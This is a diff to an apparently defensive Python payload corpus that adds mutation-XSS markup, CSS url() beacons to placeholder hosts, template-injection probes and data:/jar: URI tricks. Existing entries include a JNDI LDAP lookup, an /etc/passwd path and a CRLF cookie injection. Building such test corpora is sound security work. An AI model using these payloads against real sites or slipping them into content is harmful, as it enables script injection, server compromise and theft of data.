@@ -72,6 +72,7 @@ STYLES = (
     f"behavior:url({URL})", f"<style>*{{background:url({URL})}}</style>", f"<div style=background:url({URL})>",
     f"*/*{{background:url({URL})}}/*", f"<style>@font-face{{src:url({URL})}}</style>", f"<style>@import'{URL}'",
     f"image-set('{URL}' 1x)", f"\\3c img src=x onerror={RUN}>", f'" style="background:url({URL})',
+    f"}}text{{fill:url({URL}#x)}}", f"x;clip-path:url({URL}#x)", f"x;}}@font-face{{src:url({URL})", f"--x:url({URL})",
     f"<p style='content:url({URL})'>", f"#x{{cursor:url({URL}),auto}}", f"url(\"javascript:{RUN}\")",
 )  # fmt: skip
 TEMPLATES = (
@@ -79,6 +80,8 @@ TEMPLATES = (
     f"{{% for x in [1] %}}{SCRIPT}{{% endfor %}}", f"{{# {RUN} #}}", f"[[{RUN}]]", f"@{{{RUN}}}", f"`${{{RUN}}}`",
     "{{ cycler.__init__.__globals__ }}№", "{{ ''|safe }}" + SCRIPT, "{% raw %}" + SCRIPT, "{%endblock%}" + SCRIPT,
     "{0.__class__}№", "{№}", "{} {} №", "%s %(x)s %n №", "$(№)", "${jndi:ldap://p№.invalid/}", "<#assign x=№>",
+    f"{{{{=<% %>=}}}}<%{{{RUN}}}%>", f"<th:block th:text=${{{RUN}}}>", f"*{{{RUN}}}", f"~{{::{RUN}}}",
+    "{{#with №}}{{/with}}", "{php}№{/php}", "#set($x=№)", "{{7*'№'}}",
 )  # fmt: skip
 SCRIPTS = (
     "</script №", f"</ScRiPt >{SCRIPT}", f"</script/x>{SCRIPT}", f"</script\n>{SCRIPT}", f"<!--<script>{RUN}",
@@ -124,6 +127,21 @@ MARKDOWN = (
     f"[x](#/lenin\"onclick={RUN})", f"[x](https://a\\\"onclick={RUN})", f"^[{IMAGE}]", f"$${RUN}$$",
     f":::{{onclick={RUN}}}",
 )  # fmt: skip
+MUTATIONS = (
+    f"<svg></p><style><a id='</style>{IMAGE}'>",
+    f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}",
+    f"<noscript><p title='</noscript>{IMAGE}'>",
+    f"<svg><p><style><!--</style>{IMAGE}-->",
+    f"<form><math><mtext></form><mglyph><style></math>{IMAGE}",
+    f"<select><template><style>{IMAGE}",
+    f"<math><annotation-xml encoding=text/html><style>{IMAGE}",
+    f"<a title='{IMAGE}'><table></a>",
+    f"<svg><title><style><b id='</style>{IMAGE}'>",
+    f"<xmp><p title='</xmp>{IMAGE}'>",
+    f"<textarea><p title='</textarea>{IMAGE}'>",
+    f"<template shadowrootmode=open>{IMAGE}",
+)
+"""What is harmless as it is read, and harmful when it is written out and read again."""
 TYPST = (
     '#panic("№")', "#{panic(№)}", "]#panic(№)[", '")#panic(№)', '";panic(№);"', '\\")#panic(№)',
     "#eval(\"panic(№)\")",
@@ -155,6 +173,7 @@ ADDRESSES = (
     f"{URL}'onerror={RUN}", f"{URL}\"><script>{RUN}</script>", "file:///etc/passwd?№", "//p№.invalid/",
     "\\\\p№.invalid\\x",
     "http://user:pass@p№.invalid/", "https://p№.invalid:80@x/", f"blob:{URL}", f"filesystem:{URL}", "http://[::1]/№",
+    f"data:text/javascript,{RUN}", "data:text/html;base64,PHNjcmlwdD4№", "file://p№.invalid/x", "jar:file:///№!/x",
     f"{URL}%00%0d%0aSet-Cookie:x=№", f"{URL}#javascript:{RUN}", "about:blank#№", "chrome://settings/№",
     "../../../../№",
     "..%2f..%2fetc%2fpasswd№", "C:\\№\\x", "mailto:x@p№.invalid", "tel:№", "ws://p№.invalid/", "urn:x:№\"><b>",
@@ -191,8 +210,9 @@ def _all() -> Iterator[tuple[str, str]]:
     yield from (("disguise", VECTORS[i % 3].format(text.format(f":{RUN}"))) for i, text in enumerate(DISGUISES))
     yield from (("beacon", text if RUN in text else text.replace("№", URL)) for text in BEACONS)
     for kind, texts in {
-        "drawing": DRAWINGS, "style": STYLES, "template": TEMPLATES, "script": SCRIPTS, "markdown": MARKDOWN,
-        "typst": TYPST, "query": QUERIES, "formula": FORMULAS, "address": ADDRESSES, "steering": STEERING,
+        "drawing": DRAWINGS, "mutation": MUTATIONS, "style": STYLES, "template": TEMPLATES, "script": SCRIPTS,
+        "markdown": MARKDOWN, "typst": TYPST, "query": QUERIES, "formula": FORMULAS, "address": ADDRESSES,
+        "steering": STEERING,
     }.items():  # fmt: skip
         yield from ((kind, text) for text in texts)
 
